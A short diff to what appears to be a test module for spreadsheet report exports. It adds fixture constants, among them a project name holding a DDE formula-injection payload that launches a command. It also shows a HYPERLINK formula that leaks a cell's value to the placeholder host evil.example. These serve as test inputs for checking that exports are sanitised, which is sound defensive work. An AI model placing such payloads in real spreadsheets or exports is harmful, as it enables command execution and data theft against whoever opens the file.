@@ -12,6 +12,11 @@ import socket
 
 from exports.model import Headline, ProgressRow, QualitySummary, ReportData
 
+# The pipeline fixture's period and its hostile project name, late and missing departments
+# (tests/exports/conftest.py: pipeline_home).
+PERIOD = "2024-06"
+HOSTILE_PROJECT = "=cmd|' /C calc'!A0"
+LATE, MISSING = "CA", "HEALTH"
 MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
